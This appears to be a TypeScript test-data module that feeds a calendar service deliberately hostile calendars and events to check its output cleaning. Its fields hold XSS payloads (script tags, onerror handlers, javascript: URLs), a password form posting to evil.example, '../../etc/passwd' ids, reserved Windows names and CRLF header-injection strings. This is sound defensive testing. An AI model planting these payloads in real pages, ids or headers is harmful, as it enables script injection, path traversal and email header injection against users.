// The `hostile` fault mode's data (issue 7): the curated set plus calendars whose ids, titles and
// descriptions attack every output. Ids climb out of folders, hit reserved names or differ only in
// case; markup tries to run script; text carries control and XML-illegal characters. Pure.

import {
  DEMO_TIME_ZONE,
  anchorDay,
  isoDay,
  updatedBefore,
  wallTime,
  type DemoCalendar,
  type DemoEvent,
  type DemoSource,
} from './data.js';
import { curatedSource } from './curated.js';

/** Description HTML with every kind of active content, and one safe link that must survive cleaning. */
export const HOSTILE_DESCRIPTION = [
  '<p>Before the attack.</p>',
  '<script>alert("desc-script")</script>',
  '<style>body { display: none }</style>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<p onclick="alert(\'onclick\')">Click me</p>',
  '<a href="javascript:alert(\'js-href\')">javascript link</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" onerror="alert(\'onerror\')">',
  '<a href="https://ok.example/">ok</a>',
  '<p>After ]]> the attack &amp; done.</p>',
].join('');

/** The raw URL a details request for this event is redirected to (another origin), set by the server. */
export const REDIRECTING_EVENT: [string, string] = ['../../etc/passwd', 'redirect-me'];

const CONTROL_CHARS = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i))
  .filter((c) => c !== '\t' && c !== '\n')
  .join('');

const HOSTILE_TITLES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'CDATA breaker ]]> and ]]]]><![CDATA[>',
  '</script><script>alert(document.cookie)</script>',
  `Control characters: [${CONTROL_CHARS}\u007f] end`,
  'XML-illegal: [\uFFFE\uFFFF\uD800] lone surrogate and non-characters',
  'iCal escapes: semi; comma, back\\slash\r\nnew line',
  "Quotes ' \" & < > in a title",
];

function hostileEvent(calendarId: string, id: string, index: number, anchor: ReturnType<typeof anchorDay>, title: string): DemoEvent {
  const start = wallTime(anchor, 2 + index, 18, 0);
  return {
    id,
    calendarId,
    title,
    titleLt: title,
    description: HOSTILE_DESCRIPTION,
    descriptionLt: HOSTILE_DESCRIPTION,
    when: { kind: 'timed', start, end: start + 3_600_000 },
    location: index % 2 === 0 ? '<b>Hall</b> & "Room" <script>alert(2)</script>' : { name: '<img src=x onerror=alert(3)>', address: 'Street 1\r\nX-Injected: yes' },
    cancelled: false,
    updatedAt: updatedBefore(anchor, `hostile/${calendarId}/${id}`),
    url: index % 3 === 0 ? 'javascript:alert("url")' : `https://portal.example.edu/hostile/${encodeURIComponent(id)}`,
    categories: ['<script>alert(4)</script>', 'a,b;c', 'back\\slash'],
    organizer: { name: 'Mallory <mallory@evil.example>', email: 'mallory@evil.example\r\nBCC: victim@example.edu' },
    image: 'javascript:alert("image")',
  };
}

/** Curated data plus hostile calendars (visible to the university organization only). */
export function hostileSource(now: number): DemoSource {
  const base = curatedSource(now);
  const anchor = anchorDay(now);
  const calendar = (id: string, title: string): DemoCalendar => ({
    id,
    title,
    titleLt: title,
    description: HOSTILE_DESCRIPTION,
    descriptionLt: HOSTILE_DESCRIPTION,
    timeZone: DEMO_TIME_ZONE,
    url: 'javascript:alert("calendar")',
  });
  const extra: DemoCalendar[] = [
    calendar('../../etc/passwd', '<script>alert("calendar")</script> Hostile calendar'),
    calendar('CON', 'CON: a name Windows reserves'),
    calendar('Hostile', 'Case twin (upper)'),
    calendar('hostile', 'Case twin (lower)'),
  ];
  const ids = ['..', '.', 'a/b', 'a\\b', 'CON', 'nul\u0000byte', 'x'.repeat(300), 'Event', 'event', 'long-title', REDIRECTING_EVENT[1]];
  const events = new Map<string, DemoEvent[]>();
  events.set(
    '../../etc/passwd',
    ids.map((id, i) => {
      const title = id === 'long-title' ? 'Very long title '.repeat(6400) : (HOSTILE_TITLES[i % HOSTILE_TITLES.length] ?? '');
      return hostileEvent('../../etc/passwd', id, i, anchor, title);
    }),
  );
  events.set('CON', [hostileEvent('CON', 'PRN', 0, anchor, 'Reserved ids: calendar CON, event PRN')]);
  events.set('Hostile', [hostileEvent('Hostile', 'Event', 1, anchor, 'Case twin calendar, upper')]);
  events.set('hostile', [hostileEvent('hostile', 'event', 2, anchor, 'Case twin calendar, lower')]);
  // An all-day event too, so date-only values go through the same hostile text paths.
  events.get('CON')?.push({ ...hostileEvent('CON', 'AUX', 3, anchor, '<script>alert("allday")</script>'), when: { kind: 'allDay', startDate: isoDay(anchor, 4), endDate: isoDay(anchor, 4) } });
  const calendars = [...base.calendars(), ...extra];
  return {
    calendars: () => calendars,
    events: (calendarId) => base.events(calendarId) ?? events.get(calendarId),
    event: (calendarId, eventId) =>
      base.event(calendarId, eventId) ?? events.get(calendarId)?.find((e) => String(e.id) === eventId),
    eventIds: (calendarId) => base.eventIds(calendarId).concat((events.get(calendarId) ?? []).map((e) => String(e.id))),
    facultyCalendarIds: () => base.facultyCalendarIds(),
    calendarsUpdatedAt: () => base.calendarsUpdatedAt(),
  };
}
